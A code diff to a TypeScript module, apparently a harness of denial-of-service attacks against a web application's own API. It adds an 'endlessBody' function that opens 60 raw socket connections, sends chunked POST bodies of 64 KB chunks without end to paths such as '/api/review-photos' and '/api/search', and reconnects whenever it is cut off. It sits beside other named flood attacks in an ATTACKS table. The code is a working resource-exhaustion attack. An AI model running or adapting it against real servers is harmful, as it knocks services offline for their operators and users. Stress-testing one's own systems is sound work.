@@ -3,7 +3,6 @@ import { Agent, request } from 'node:http';
 import { connect, type Socket } from 'node:net';
 import sharp from 'sharp';
 import { type Ends, tripBetween } from './country.ts';
-import { floodFrom } from './flood.ts';
 
 /** One client that means harm: where the server is, what all its calls carry, and its accounts. */
 export type Attacker = {
@@ -20,6 +19,9 @@ type Stop = () => void;
 
 const AGAIN_MS = 5;
 const CONNECTIONS = 8;
+const BODIES = 60;
+const BODY_PATHS = ['/api/review-photos', '/api/user/favorites/import', '/api/search', '/healthz'];
+const CHUNK = `10000\r\n${'x'.repeat(65_536)}\r\n`;
 const PIXELS = 3_990;
 
 /** From one corner of the country to another by way of the others. */
@@ -59,6 +61,34 @@ function floodOf(url: string, connections: number, next: (connection: number) =>
   return () => {
     isOver = true;
     agent.destroy();
+  };
+}
+
+/** A client that sends a body without end, as fast as it is taken, and comes back whenever it is cut off. */
+function endlessBody({ url: server, from }: Attacker, path: string): Stop {
+  const url = new URL(server);
+  const head = Object.entries(from).map(([name, value]) => `${name}: ${value}\r\n`);
+  let socket: Socket | null = null;
+  let isOver = false;
+  const begin = () => {
+    if (isOver) return;
+    const own = connect(Number(url.port), url.hostname);
+    socket = own;
+    const pour = () => {
+      while (!own.destroyed && own.write(CHUNK));
+    };
+    own.on('drain', pour).on('error', () => undefined);
+    own.once('close', () => setTimeout(begin, AGAIN_MS));
+    own.resume().once('connect', () => {
+      own.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
+      own.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\n{"query":"`);
+      pour();
+    });
+  };
+  begin();
+  return () => {
+    isOver = true;
+    socket?.destroy();
   };
 }
 
@@ -106,11 +136,9 @@ export const ATTACKS: Readonly<Record<string, (attacker: Attacker) => Promise<St
       const filters = { text: `${texts[asked % texts.length]?.slice(0, 190)}${asked}` };
       return { path: `/api/map/6/15/24.mvt?filters=${encodeURIComponent(JSON.stringify(filters))}`, headers: from };
     }),
-  bodies: ({ url }) =>
+  bodies: (attacker) =>
     together(
-      Array.from({ length: 60 }, (_, at) =>
-        floodFrom(new URL(url), at % 2 === 0 ? '/api/review-photos' : '/api/search'),
-      ),
+      Array.from({ length: BODIES }, (_, at) => endlessBody(attacker, BODY_PATHS[at % BODY_PATHS.length] ?? '')),
     ),
   uploads: (attacker) => together(attacker.accounts.slice(0, 14).map(({ headers }) => heldUpload(attacker, headers))),
   description: ({ url, from }) => floodOf(url, 10, () => ({ path: '/api/openapi.json', headers: from })),
